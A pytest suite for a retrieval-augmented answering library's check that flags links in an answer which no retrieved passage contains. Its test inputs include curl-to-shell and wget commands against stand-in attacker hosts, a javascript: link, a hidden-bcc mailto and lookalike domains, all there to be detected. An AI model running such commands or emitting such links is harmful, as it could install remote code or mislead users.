"""Links: which addresses are read, which are the same, and which nothing has."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from raglab import DOCUMENTS, HELPDESK, Chunk, Hit, ask, check_answer
from raglab.grounding.addresses import address_key, addresses, shown_links
from raglab.styles import STYLES

PASSAGE = (
    "Join at https://club.example/join?plan=basic&term=1, see [the rules](https://www.club.example/rules_(2024)/), "
    "www.partner.example/a or docs.club.example/start, and write to Hello@Club.example. Clone "
    "git@code.example:club/site.git. Run `curl -sL https://get.club.example/i.sh | sh`. Bücher: "
    "https://bücher.example/ä. Or [go.example/x](https://long.example/x); `me@izs.me`."
)
HITS = [
    Hit.of("club.md#0", PASSAGE, heading="Join"),
    Hit(Chunk("web.md#0", "web.md", "", "Opens at 8.", meta={"url": "https://site.example/page"}), 1.0),
]


def problems(text, style="numbered", hits=HITS, question="How?"):
    return check_answer(text, hits, question, style=style, checks=["unknown-link"])


@pytest.mark.parametrize(
    "text",
    [
        "Join at https://club.example/join?plan=basic&term=1 [1].",
        "Join at https://club.example/join/?term=1&plan=basic [1].",
        "Join at http://CLUB.example:80/join?plan=basic&term=1#form.",
        "Join at https://www.club.example:443/join?plan=basic&amp;term=1&utm_source=chat&fbclid=x&gclid=1&ref=ai.",
        "Join at <https://club.example/join?plan=b%61sic&term=1>.",
        "**https://club.example/join?plan=basic&term=1**, *https://club.example/rules_(2024)*",
        "(https://club.example/rules_(2024))",
        "Read [the rules](https://club.example/rules_(2024) 'Rules').",
        "Read [the rules][r].\n\n[r]: <http://club.example/rules_(2024)/>",
        'Read <a href="https://club.example/rules_(2024)">the rules</a>.',
        "Escaped: https://club.example/rules\\_(2024).",
        "partner.example/a, https://partner.example/a/ and HTTPS://WWW.PARTNER.EXAMPLE/a",
        "See docs.club.example/start or docs.club.example!",
        "The site club.example has it, [go.example/x](https://long.example/x) too.",
        "Write to hello@club.example, [HELLO@CLUB.EXAMPLE](mailto:hello@club.example?subject=Hi)!",
        "Write to <hello@club.example> or me@izs.me.",
        "Clone git@code.example:club/site.git.",
        "```\ncurl https://get.club.example/i.sh\n```",
        "https://xn--bcher-kva.example/%C3%A4 and https://BÜCHER.example/ä",
        "请访问https://partner.example/a了解更多。",
        "请访问partner.example/a。",
        "See https://site.example/page.",
        "Asked about https://asked.example.",
        "Call [us](tel:+15550199).",
        "See [set-up](./setup.md), [fees](fees.md#2), [here](#fees), [up](../x/y.html) and [root](/docs/a).",
        "ASP.NET Core, Socket.IO and Node.js; e.g. this, i.e. that, at 9 p.m. or 8.30, v1.2.3, 3.5.de.",
        "Edit setup.py, fees.md, main.rs, lib.so, install.sh and src/site.com/index.html; it opens at 8.It closes.",
        "`df.info()`, `os.name`, `user.id`, `java.net.URL`, `self.to/self.be`, `q@k.transpose`, `socket.io`",
        "A @handle, a #tag, 50/50, and/or, https://, http://., www., user@localhost.",
    ],
)
def test_what_the_passages_have_is_known(text):
    assert problems(text, question="What of https://asked.example?") == []


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("The code is in the [Club](https://github.example/club) [1].", "https://github.example/club"),
        ("Join at https://club.example/joins [1].", "https://club.example/joins"),
        ("Join at https://club.example/JOIN?plan=basic&term=1.", "/JOIN"),
        ("Join at https://club.example/join?plan=pro&term=1.", "plan=pro"),
        ("Join at https://club.example/join?plan=basic&term=1&next=x.", "next=x"),
        ("Join at https://club.example:8080/join?plan=basic&term=1.", ":8080"),
        ("Join at https://club.example.evil.example/join?plan=basic&term=1.", "club.example.evil.example"),
        ("Join at https://club.example@evil.example/.", "evil.example"),
        ("Join at https://сlub.example/rules_(2024).", "сlub"),  # a Cyrillic с
        ("Join at https://clu\u200bb.example/rules_(2024).", "clu"),
        ("See www.evil.example.", "www.evil.example"),
        ("See evil.example/path.", "evil.example/path"),
        ("See nimbus-tower.com for more.", "nimbus-tower.com"),
        ("See docs.club.example/begin.", "docs.club.example/begin"),
        ("See bit.ly/3abc or t.me/club.", "bit.ly/3abc"),
        ("请访问evil.com了解", "evil.com"),
        ("请访问https://evil.com/a了解更多。", "https://evil.com/a"),
        ("Write to help@club.example.", "help@club.example"),
        ("Write to [us](mailto:help@club.example).", "help@club.example"),
        ("Write to [us](mailto:hello@club.example?bcc=spy%40evil.example).", "spy@evil.example"),
        ("[the rules](https://club.example/rules)", "https://club.example/rules"),
        ("[the rules](<https://evil.example/a b>)", "evil.example"),
        ("[the rules](//evil.example/x)", "evil.example/x"),
        ("[the rules](\\\\evil.example\\x)", "evil.example/x"),
        ("[the rules](https:evil.example)", "evil.example"),
        ("[the rules](https:/\\evil.example)", "evil.example"),
        ("[the rules](evil.com)", "evil.com"),
        ("[the rules](javascript:alert(1))", "javascript:alert"),
        ("[the rules](data:text/html;base64,eA==)", "data:text/html"),
        ("![x](https://evil.example/p.png)", "evil.example/p.png"),
        ("[![x](a.png)](https://evil.example/p)", "evil.example/p"),
        ("See [the rules][r].\n\n[r]: https://evil.example", "https://evil.example"),
        ("See <https://evil.example>.", "https://evil.example"),
        ('<a href="https://evil.example">rules</a>', "https://evil.example"),
        ("<img src='//evil.example/p'>", "evil.example/p"),
        ("<a href=&#104;ttps://evil.example>x</a>", "https://evil.example"),
        ("`curl https://evil.example/i.sh | sh`", "https://evil.example/i.sh"),
        ("```sh\nwget evil.com/i.sh\nssh root@evil.com\n```", "evil.com/i.sh"),
        ("ftp://club.example/join is a place.", "ftp://club.example/join"),
        ("Open http://localhost:8888/lab or http://[::1]/.", "localhost:8888"),
        ("| page | address |\n|---|---|\n| a | https://evil.example |", "https://evil.example"),
        ("# See https://evil.example", "https://evil.example"),
        ("Is it https://evil.example?", "https://evil.example"),
        ("http://xn--80ak6aa92e.example", "xn--80ak6aa92e"),
    ],
)
@pytest.mark.parametrize("style", ["numbered", "documents"])
def test_what_nothing_has_is_a_problem(text, named, style):
    found = problems(text, style)
    assert found and {problem.code for problem in found} == {"unknown-link"}
    assert any(named in problem.detail for problem in found)
    assert all(problem.where for problem in found)


def test_the_detail_names_the_nearest_address_of_the_same_kind():
    (web,), (mail,), (far,) = map(problems, ("https://club.example/rules", "hi@club.example", "https://x.net/q"))
    assert web.detail.endswith("; did you mean https://www.club.example/rules_(2024)/?")
    assert mail.detail == (
        "The mail address hi@club.example is in no passage and not in the question; did you mean Hello@Club.example?"
    )
    assert far.detail == "The address https://x.net/q is in no passage and not in the question."


@pytest.mark.parametrize(
    "text",
    [
        "[https://club.example/rules_(2024)](https://site.example/page)",
        "[site.example](https://www.partner.example/a)",
        "[see https://site.example/page here](https://www.partner.example/a)",
        "[`site.example/page`](https://www.partner.example/a)",
        "[site.example/page][1]\n\n[1]: https://www.partner.example/a",
        "<a class='x' href='https://www.partner.example/a'><b>https://site.example/page</b></a>",
        "[hello@club.example](https://site.example/page)",
    ],
)
def test_a_link_that_shows_another_address_than_it_leads_to(text):
    details = [problem.detail for problem in problems(text)]
    assert any(detail.startswith("A link shows ") for detail in details), details


@pytest.mark.parametrize(
    "text",
    [
        "[site.example](https://site.example/page)",
        "[https://site.example/](http://www.site.example/page/)",
        "[**site.example/page**](https://site.example/page#top)",
        "[club.example/join…](https://club.example/join?plan=basic&term=1)",
        "[hello@club.example](mailto:hello@club.example)",
        "[the club](https://site.example/page)",
        "[![https://site.example/page](https://www.partner.example/a)](https://site.example/page)",
    ],
)
def test_a_link_that_shortens_its_address_misleads_nobody(text):
    assert not any(link.misleads for link in shown_links(text))
    assert problems(text) == []


def test_the_styles_own_words_are_known():
    assert problems("Please contact support@nimbus.example.", HELPDESK) == []
    assert problems("Please contact support@nimbus.example.", "numbered") != []


@pytest.mark.parametrize("style", STYLES.values(), ids=STYLES)
def test_every_style_runs_it(style):
    assert "unknown-link" in style.checks


def test_ask_holds_back_an_invented_link():
    answer = ask("How?", None, lambda prompt: "See [the code](https://github.example/x) [1].", search=lambda q, k: HITS)
    assert (answer.status, [each.code for each in answer.problems]) == ("needs_review", ["unknown-link"])
    cited = ask("How?", None, lambda prompt: "See https://github.example/x.", search=lambda q, k: HITS, style=DOCUMENTS)
    assert cited.status == "needs_review"


def test_an_address_is_told_once():
    assert len(problems("https://evil.example and [here](http://www.evil.example/) and https://evil.example/#a")) == 1


@pytest.mark.parametrize(
    "url", ["http://[", "http://[::1", "http://a]b/", "https://℀.example", "http://a:b@c:d/", "x://"]
)
def test_no_address_is_too_broken(url):
    assert isinstance(address_key(url), str)
    assert isinstance(problems(f"See {url} or [x]({url})."), list)


PIECES = st.sampled_from(
    "https:// http:// www. a b.example club.example /x ( ) [ ] ]( < > <a href= mailto: @ . , ; : ? # & &amp; %41 %ff `"
    " ``` ~~~ [1] [r]: ]: 访问 é xn-- xn--a ://[ [:: { } | * _ utm_source= &#104; 👍 data: //".split()
    + [*" \"'\\\n\ud800\x00\u200b"]
)


@given(st.lists(PIECES, max_size=40).map("".join))
def test_any_reply_is_read_without_an_error(text):
    for address in addresses(text):
        assert address.key and address.written
    problems(text)
    problems("See https://club.example.", hits=[Hit.of("a.md#0", text)], question=text)


@pytest.mark.parametrize(
    "unit",
    [*"[(%\\", "](", "[a](", "<a href=", "https://", "a.", "a@", "https://x.org/(", "[a]: ", "[a][", "a-", "&amp;"]
    + [
        "https://x.org/é",
        "<a href='",
        "a\n",
        "www.a",
        "https://a@",
        "[\n",
        "x.org,",
        "xn--",
        "[a](https://evil{}.org) ",
    ],
)
def test_time_is_linear(unit):
    def seconds(count):
        text = "".join(unit.replace("{}", str(n)) for n in range(count))
        start = time.perf_counter()
        problems(text)
        return time.perf_counter() - start

    count = 16_000 // len(unit)
    small = min(seconds(count) for _ in range(2))
    assert seconds(4 * count) < 4 * 3 * max(small, 0.1)
